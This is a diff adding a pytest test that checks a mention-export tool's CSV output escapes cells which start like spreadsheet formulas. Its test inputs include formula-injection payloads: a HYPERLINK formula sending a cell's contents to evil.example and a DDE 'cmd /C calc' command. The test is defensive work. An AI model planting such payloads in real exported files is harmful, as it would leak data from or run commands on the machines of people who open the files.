@@ -95,3 +95,41 @@ def test_json_and_jsonl_hold_the_same_records(engine):
 def test_an_unknown_format_is_a_clear_error(engine):
     with pytest.raises(ExportError, match="csv, json, jsonl"):
         write_export(iter_mentions(engine), io.StringIO(), "xml")
+
+
+@pytest.mark.parametrize(
+    "dangerous",
+    [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Clicca")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_that_start_like_a_formula_are_text_for_a_spreadsheet(tmp_path, dangerous):
+    engine = open_engine(f"sqlite:///{tmp_path / 'formula.db'}")
+    upsert_mentions(
+        engine,
+        [
+            Mention(
+                brand="Panificio Rossi",
+                kind="comment",
+                url="https://b.example/p#comment-9",
+                text=dangerous,
+                title=dangerous,
+                author=dangerous,
+                source="b.example",
+                score=-0.75,
+            )
+        ],
+    )
+    stream = io.StringIO()
+    write_export(iter_mentions(engine), stream, "csv")
+    [row] = csv.DictReader(io.StringIO(stream.getvalue(), newline=""))
+    assert row["text"] == row["title"] == row["author"] == "'" + dangerous
+    assert row["score"] == "-0.75"  # a number, not text: a spreadsheet reads it as a value
+    jsonl = io.StringIO()
+    write_export(iter_mentions(engine), jsonl, "jsonl")
+    assert json.loads(jsonl.getvalue())["text"] == dangerous  # JSON is data, not a sheet
